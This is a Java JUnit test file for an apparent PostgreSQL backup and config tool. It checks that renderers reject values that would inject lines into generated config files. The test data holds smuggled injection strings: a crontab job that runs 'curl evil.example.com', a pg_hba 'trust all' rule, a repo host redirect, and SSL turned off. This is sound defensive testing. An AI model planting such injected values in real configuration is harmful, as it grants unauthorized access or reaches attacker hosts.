package dev.pgctl.render;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.pgctl.problem.ExitCodes;
import dev.pgctl.problem.PgctlException;
import dev.pgctl.config.Config;
import dev.pgctl.config.Config.Postgres;
import dev.pgctl.config.Config.Repo;
import dev.pgctl.config.Secret;
import dev.pgctl.restore.InPlaceRequest;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.function.Supplier;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;

/**
 * The second line of defence: a value that skipped ConfigLoader's checks (a Config built in code)
 * still cannot add a line or a field of its own to any file pgctl writes. Each renderer refuses it,
 * naming the key and never the value.
 */
class RendererGuardTest {
    static final String EVIL = "\nrepo1-storage-host=evil.example.com";

    static Config good() throws Exception {
        return RenderTest.config("PGCTL_REPLICATION_PASSWORD", "r");
    }

    static Config replica() throws Exception {
        return RenderTest.config("PGCTL_ROLE", "replica", "PGCTL_PRIMARY_HOST", "db", "PGCTL_REPLICATION_PASSWORD", "r");
    }

    static Config withRepo(Config c, UnaryOperator<Repo> f) {
        return new Config(c.role(), c.postgres(), c.repo().map(f), c.stanza(), c.archiveTimeoutSeconds(), c.schedules(),
                c.restoreOnEmpty(), c.paths(), c.ssl(), c.restoreTarget(), c.replication(), c.notifications(), c.drill(), c.monitoring(),
                c.repo2());
    }

    static Repo region(Repo r, String region) {
        return new Repo(r.bucket(), r.endpoint(), region, r.keyType(), r.key(), r.keySecret(), r.path(), r.uriStyle(), r.port(),
                r.verifyTls(), r.caFile(), r.retentionFull(), r.retentionDiff(), r.cipherPass(), r.compressType(),
                r.compressLevel(), r.processMax(), r.bundle(), r.block(), r.calendar());
    }

    static Repo keySecret(Repo r, String secret) {
        return new Repo(r.bucket(), r.endpoint(), r.region(), r.keyType(), r.key(), Optional.of(new Secret(secret)), r.path(),
                r.uriStyle(), r.port(), r.verifyTls(), r.caFile(), r.retentionFull(), r.retentionDiff(), r.cipherPass(),
                r.compressType(), r.compressLevel(), r.processMax(), r.bundle(), r.block(), r.calendar());
    }

    static Config withPostgres(Config c, Postgres p) {
        return new Config(c.role(), p, c.repo(), c.stanza(), c.archiveTimeoutSeconds(), c.schedules(), c.restoreOnEmpty(),
                c.paths(), c.ssl(), c.restoreTarget(), c.replication(), c.notifications(), c.drill(), c.monitoring(),
                c.repo2());
    }

    static Config withStanza(Config c, String stanza) {
        return new Config(c.role(), c.postgres(), c.repo(), stanza, c.archiveTimeoutSeconds(), c.schedules(), c.restoreOnEmpty(),
                c.paths(), c.ssl(), c.restoreTarget(), c.replication(), c.notifications(), c.drill(), c.monitoring(),
                c.repo2());
    }

    static Config withReplication(Config c, String user, String password, Optional<String> host) {
        Config.Replication r = c.replication();
        return new Config(c.role(), c.postgres(), c.repo(), c.stanza(), c.archiveTimeoutSeconds(), c.schedules(),
                c.restoreOnEmpty(), c.paths(), c.ssl(), c.restoreTarget(), new Config.Replication(user,
                        Optional.of(new Secret(password)), r.slot(), host, r.primaryPort(), r.sslMode(), r.sslRootCert(),
                        r.waitSeconds()), c.notifications(), c.drill(), c.monitoring(),
                c.repo2());
    }

    static Config withSchedule(Config c, String full) {
        return new Config(c.role(), c.postgres(), c.repo(), c.stanza(), c.archiveTimeoutSeconds(),
                new Config.Schedules(Optional.of(full), c.schedules().diff(), c.schedules().incr()), c.restoreOnEmpty(),
                c.paths(), c.ssl(), c.restoreTarget(), c.replication(), c.notifications(), c.drill(), c.monitoring(),
                c.repo2());
    }

    static Config withSsl(Config c, String minProtocol) {
        return new Config(c.role(), c.postgres(), c.repo(), c.stanza(), c.archiveTimeoutSeconds(), c.schedules(),
                c.restoreOnEmpty(), c.paths(), new Config.Ssl(c.ssl().dir(), c.ssl().hostnames(), minProtocol),
                c.restoreTarget(), c.replication(), c.notifications(), c.drill(), c.monitoring(),
                c.repo2());
    }

    static Config withConfDir(Config c, String dir) {
        Config.Paths p = c.paths();
        return new Config(c.role(), c.postgres(), c.repo(), c.stanza(), c.archiveTimeoutSeconds(), c.schedules(),
                c.restoreOnEmpty(), new Config.Paths(p.pgbackrestConf(), Path.of(dir), p.runDir(), p.spoolPath()), c.ssl(),
                c.restoreTarget(), c.replication(), c.notifications(), c.drill(), c.monitoring(),
                c.repo2());
    }

    /** Refused, naming the key and the file, without the value. */
    static void refused(Supplier<String> render, String key, String file) {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, render::get);
        assertTrue(e.getMessage().contains(key), e.getMessage());
        assertTrue(e.getMessage().contains(file), e.getMessage());
        assertFalse(e.getMessage().contains("evil") || e.getMessage().contains("Kx7"), "the value is printed: " + e.getMessage());
    }

    @Test
    void pgbackrestConfRefusesAValueThatWouldAddALine() throws Exception {
        Config c = good();
        PgBackRestConf.render(c);
        refused(() -> PgBackRestConf.render(withRepo(c, r -> region(r, "eu-west-1" + EVIL))), "repo1-s3-region", "pgbackrest.conf");
        refused(() -> PgBackRestConf.render(withRepo(c, r -> keySecret(r, "Kx7\r"))), "repo1-s3-key-secret", "pgbackrest.conf");
        refused(() -> PgBackRestConf.render(withRepo(c, r -> keySecret(r, " Kx7"))), "repo1-s3-key-secret", "pgbackrest.conf");
        refused(() -> PgBackRestConf.render(withRepo(c, r -> keySecret(r, "Kx7\tx"))), "repo1-s3-key-secret", "pgbackrest.conf");
        refused(() -> PgBackRestConf.render(withPostgres(c, new Postgres(c.postgres().pgdata(), 5432,
                c.postgres().socketDir(), "postgres" + EVIL))), "pg1-user", "pgbackrest.conf");
        refused(() -> PgBackRestConf.render(withStanza(c, "main]\n[global")), "section", "pgbackrest.conf");
    }

    @Test
    void thePostgresIncludeRefusesAValueThatWouldAddASetting() throws Exception {
        Config c = good();
        PostgresInclude.render(c);
        refused(() -> PostgresInclude.render(withSsl(c, "TLSv1.2'\nssl = 'off")), "ssl_min_protocol_version", "PostgreSQL include");
        refused(() -> PostgresInclude.render(withStanza(c, "main" + EVIL)), "archive_command", "PostgreSQL include");
        refused(() -> PostgresInclude.render(withConfDir(c, "/etc/pgctl\nx")), "ssl_cert_file", "PostgreSQL include");
        refused(() -> PostgresInclude.includeLine(withConfDir(c, "/etc/pgctl\nx")), "include_if_exists", "postgresql.conf");
        Config r = replica();
        PostgresInclude.render(r, false, "replica-1");
        refused(() -> PostgresInclude.render(withReplication(r, "replicator", "r", Optional.of("db\nevil")), false, ""),
                "host", "primary_conninfo");
    }

    @Test
    void pgHbaRefusesAUserOrPathThatWouldAddARuleOrAField() throws Exception {
        Config c = good();
        HbaConf.render(c);
        refused(() -> HbaConf.render(withReplication(c, "rep\nhost all all all trust", "r", Optional.empty())),
                "replication user", "pg_hba.conf");
        refused(() -> HbaConf.render(withReplication(c, "rep all", "r", Optional.empty())), "replication user", "pg_hba.conf");
        refused(() -> HbaConf.render(withReplication(c, "rep,all", "r", Optional.empty())), "replication user", "pg_hba.conf");
        refused(() -> HbaConf.render(withReplication(c, "rep#", "r", Optional.empty())), "replication user", "pg_hba.conf");
        refused(() -> HbaConf.render(withPostgres(c, new Postgres(Path.of("/var/lib/my data"), 5432, c.postgres().socketDir(),
                "postgres"))), "include_if_exists", "pg_hba.conf");
    }

    @Test
    void theCrontabRefusesAScheduleThatWouldAddAJob() throws Exception {
        Config c = good();
        Crontab.render(c);
        refused(() -> Crontab.render(withSchedule(c, "0 1 * * 0\n* * * * * curl evil.example.com")), "full schedule", "crontab");
    }

    @Test
    void theReplicationPasswordFileRefusesASecondLine() throws Exception {
        Config r = replica();
        Replication.passfile(r);
        refused(() -> Replication.passfile(withReplication(r, "replicator", "Kx7\n*:*:*:postgres:evil", Optional.of("db"))),
                "password", "replication.pgpass");
        refused(() -> Replication.conninfo(withReplication(r, "replicator", "r", Optional.of("db\rx")), ""), "host",
                "primary_conninfo");
    }

    @Test
    void theRestoreRequestAndMarkerCarryOnlyTargetOptionsOneALine() {
        Instant at = Instant.parse("2026-11-22T03:00:00Z");
        String request = InPlaceRequest.request(at, "LSN 0/3000060", List.of("--type=lsn", "--target=0/3000060",
                "--target-action=promote"));
        assertEquals(List.of("--type=lsn", "--target=0/3000060", "--target-action=promote"),
                InPlaceRequest.requestOptions(Path.of("/r"), request), "what is written is read back");
        String marker = InPlaceRequest.marker(at, List.of("--type=name", "--target=before upgrade #2"));
        assertEquals(Optional.of(List.of("--type=name", "--target=before upgrade #2")),
                InPlaceRequest.markerOptions(Path.of("/m"), marker));

        refused(() -> InPlaceRequest.request(at, "x", List.of("--type=name", "--target=x" + EVIL)), "restore option",
                "restore request");
        refused(() -> InPlaceRequest.request(at, "restore point 'x" + EVIL + "'", List.of()), "comment", "restore request");
        refused(() -> InPlaceRequest.request(at, "x", List.of("--repo1-path=/evil")), "option", "restore request");
        refused(() -> InPlaceRequest.marker(at, List.of("--target=x\r--repo1-host=evil")), "restore option", "restore marker");
        refused(() -> InPlaceRequest.marker(at, List.of("--delta")), "option", "restore marker");
    }

    @Test
    void aTamperedRequestOrMarkerIsRefusedWhenReadNotPassedToPgBackRest() {
        for (String text : List.of("--type=time\n--repo1-path=/elsewhere\n", "--target=x\r--repo1-path=/e\n",
                "--target=x\t\n", "--type=lsn\n--target=0/1\u0000\n")) {
            PgctlException e = assertThrows(PgctlException.class, () -> InPlaceRequest.requestOptions(Path.of("/pgdata/r"), text));
            assertEquals(ExitCodes.CONFIG, e.exitCode());
            assertEquals("/pgdata/r", e.problems().get(0).subject());
            assertFalse(e.problems().get(0).render().contains("\r") || e.problems().get(0).render().contains("\t"));
        }
        for (String text : List.of("options recorded\noption --repo1-path=/elsewhere\n", "options recorded\noption --target=x\t\n")) {
            PgctlException e = assertThrows(PgctlException.class, () -> InPlaceRequest.markerOptions(Path.of("/m"), text));
            assertEquals(ExitCodes.CONFIG, e.exitCode());
            assertTrue(e.problems().get(0).fix().get(0).contains("PGCTL_RESTORE_*"), e.problems().get(0).fix().toString());
        }
    }
}
